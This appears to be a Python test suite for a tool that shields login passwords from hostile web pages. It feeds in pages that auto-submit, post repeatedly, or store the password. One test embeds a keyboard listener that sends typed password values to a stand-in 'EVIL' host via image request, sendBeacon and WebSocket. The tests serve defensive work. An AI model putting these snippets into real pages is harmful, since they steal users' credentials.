"""Login pages that send too often, listen at the keyboard, or remember."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

USER = "000"
SECRET = 'S3cr3t-é"&\\1'
FORM = """<form method=post action=/api/login>
  <input name=user><input name=pass type=password><button>Connexion</button></form>"""
BY_SCRIPT = """<input name=user><input name=pass type=password><button onclick=login()>Connexion</button><script>
  const value = name => document.querySelector(`[name=${name}]`).value;
  const post = (path, body, headers) =>
    fetch(path, {method: 'POST', body, headers}).then(r => r.text(), e => 'stopped');
  const json = {'content-type': 'application/json'};
  const say = textContent =>
    document.body.append(Object.assign(document.createElement('p'), {id: 'said', textContent}));
"""

Visit = Callable[..., Any]


def test_a_page_that_submits_by_itself_while_one_types_posts_once(visit: Visit) -> None:
    seen = visit(FORM.replace("type=password", "type=password oninput=this.form.submit()"))
    seen.type()
    seen.page.get_by_role("heading", name="Bienvenue").wait_for()
    seen.check(posts=1)


def test_a_page_that_submits_at_every_key_posts_at_most_once(visit: Visit) -> None:
    """What is typed so far is no password: it is stopped; so is what comes after the whole."""
    seen = visit(
        BY_SCRIPT + "let tries = 0; document.querySelector('[type=password]').oninput = () =>"
        " post('/api/login', JSON.stringify({u: '000', p: value('pass')}), json).then(() => tries += 1);"
        " const login = () => 0</script>"
    )
    seen.page.fill("[name=user]", USER)
    seen.page.locator("[name=pass]").press_sequentially(seen.gate.placeholder)
    seen.page.wait_for_function(f"tries === {len(seen.gate.placeholder)}")
    seen.check(posts=1)
    assert SECRET in json.loads(seen.console.posts[0].body)["p"]


def test_a_page_that_posts_six_times_posts_once(visit: Visit) -> None:
    seen = visit(
        BY_SCRIPT + "const login = () => Promise.all([...Array(6)].map(() =>"
        " post('/api/login', JSON.stringify({u: '000', p: value('pass')}), json)))"
        ".then(all => say(all.join()))</script>"
    )
    seen.type()
    seen.press()
    seen.page.locator("#said").wait_for()
    seen.check(posts=1)
    assert len(seen.gate.result.aborted) == 5
    assert {one.why for one in seen.gate.result.aborted} == {"a second password"}


def test_a_page_that_tries_again_after_a_refusal_posts_once(visit: Visit, console: Any) -> None:
    console.answers(401, "no")
    seen = visit(
        BY_SCRIPT + "const once = () => post('/api/login', JSON.stringify({u: '000', p: value('pass')}), json);"
        " const login = () => once().then(once).then(once).then(say)</script>"
    )
    seen.type()
    seen.press()
    seen.page.locator("#said").wait_for()
    seen.check(posts=1)
    assert seen.gate.result.http_status == 401


def test_a_listener_at_the_keyboard_hears_only_the_placeholder(visit: Visit) -> None:
    seen = visit(
        FORM + "<script>document.querySelector('[name=pass]').addEventListener('input', event => {"
        " new Image().src = 'EVIL/i.png?' + event.target.value; navigator.sendBeacon('EVIL/b', event.target.value);"
        " const ws = new WebSocket('EVIL/ws'.replace('http', 'ws')); ws.onopen = () => ws.send(event.target.value);"
        "})</script>"
    )
    seen.type()
    seen.until(lambda: any(one.method == "WS" for one in seen.evil.heard))
    seen.press()
    seen.page.get_by_role("heading", name="Bienvenue").wait_for()
    seen.check(posts=1)
    assert {one.method for one in seen.evil.heard} == {"GET", "WS"}
    assert seen.evil.hears(seen.gate.placeholder), "the listener did listen"
    assert seen.gate.result.error is None


def test_a_page_that_remembers_the_password_remembers_the_placeholder(visit: Visit) -> None:
    seen = visit(
        FORM.replace(
            "<form", "<form onsubmit=\"localStorage.p = this.pass.value; document.cookie = 'p=' + this.pass.value\""
        )
    )
    seen.type()
    seen.press()
    seen.page.get_by_role("heading", name="Bienvenue").wait_for()
    seen.check(posts=1)
    assert seen.page.evaluate("localStorage.p") == seen.gate.placeholder
